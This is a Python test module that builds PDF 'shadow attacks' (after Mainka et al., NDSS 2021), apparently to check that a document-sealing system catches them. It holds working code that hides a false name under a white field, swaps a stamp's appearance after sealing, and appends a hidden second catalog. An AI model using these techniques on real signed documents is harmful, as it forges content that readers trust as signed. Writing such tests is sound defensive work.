"""Shadow attacks: the file is prepared before it is sealed, and what was hidden in it is uncovered afterwards.

Pakta sets its own files, so nobody can prepare one; here the sealing key itself helps the attacker.
Source: Mainka et al., Shadow Attacks: Hiding and Replacing Content in Signed PDFs (NDSS 2021).
"""

from __future__ import annotations

from pyhanko.pdf_utils.generic import StreamObject

from tests.attacks.edits import FALSE_NAME, Writer, add_annotation, add_content, increment, words
from tests.attacks.scene import Scene

WHITE = b"q 1 g 55 410 460 40 re f Q\n"
HIDDEN = 900  # the number of the first hidden object


def cover_prepared(scene: Scene) -> bytes:
    """Hide another name under a white field, and have it sealed."""

    def change(writer: Writer) -> None:
        add_content(writer, words(FALSE_NAME, white=True))
        add_content(writer, WHITE)

    return scene.sealed(increment(scene.unsealed(), change))


def hide(scene: Scene) -> bytes:
    """Take the white field away."""

    def change(writer: Writer) -> None:
        cover = writer.root["/Pages"]["/Kids"][0]["/Contents"].raw_get(-1)
        writer.objects[(0, cover.idnum)] = StreamObject(stream_data=b"")

    return increment(cover_prepared(scene), change)


def field_prepared(scene: Scene) -> bytes:
    """Have a field sealed that shows nothing."""
    return scene.sealed(increment(scene.unsealed(), lambda writer: add_annotation(writer, "/Stamp", b"")))


def replace(scene: Scene) -> bytes:
    """Give the field another look."""

    def change(writer: Writer) -> None:
        marks = [each.get_object() for each in writer.root["/Pages"]["/Kids"][0]["/Annots"]]
        (look,) = [each["/AP"]["/N"] for each in marks if each["/Subtype"] == "/Stamp"]
        look._data, look._encoded_data = words(FALSE_NAME, white=True), None
        writer.update_container(look)

    return increment(field_prepared(scene), change)


def catalog_prepared(scene: Scene) -> bytes:
    """Have a second catalog sealed that no table of objects names yet."""
    plain = scene.unsealed()
    end = plain[plain.rindex(b"startxref") :]
    fields = scene.lembar.split(b"/AcroForm ")[1].split()[0]  # each file like this one gets the same number
    return scene.sealed(plain + b"\n" + _hidden(plain, int(fields)) + end + b"\n")


def hide_and_replace(scene: Scene) -> bytes:
    """Append nothing but a table that names the second catalog."""
    sealed = catalog_prepared(scene)
    table = b"xref\n"
    number = _catalog(sealed)
    for each in (number, *range(HIDDEN, HIDDEN + 3)):
        table += b"%d 1\n%010d 00000 n \n" % (each, _place(sealed, each))
    old = int(sealed[sealed.rindex(b"startxref") :].split()[1])
    trailer = b"trailer\n<</Size 903/Root %d 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n" % (number, old, len(sealed))
    return sealed + table + trailer


def _catalog(content: bytes) -> int:
    return int(content[content.index(b"/Root ") + 6 :].split()[0])


def _place(content: bytes, number: int) -> int:
    """Return where a hidden object lies."""
    return content.index(b"%%palsu\n%d 0 obj" % number) + 7


def _hidden(plain: bytes, fields: int) -> bytes:
    stream = words(FALSE_NAME)
    font = b"<</Font<</Palsu<</Type/Font/Subtype/Type1/BaseFont/Helvetica-Bold>>>>>>"
    objects = {
        _catalog(plain): b"<</Type/Catalog/Pages %d 0 R/AcroForm %d 0 R>>" % (HIDDEN, fields),
        HIDDEN: b"<</Type/Pages/Count 1/Kids[%d 0 R]>>" % (HIDDEN + 1),
        HIDDEN + 1: b"<</Type/Page/MediaBox[0 0 595 842]/Parent %d 0 R/Contents %d 0 R/Resources %s>>"
        % (HIDDEN, HIDDEN + 2, font),
        HIDDEN + 2: b"<</Length %d>>\nstream\n%sendstream" % (len(stream), stream),
    }
    return b"".join(b"%%palsu\n%d 0 obj\n%s\nendobj\n" % each for each in objects.items())
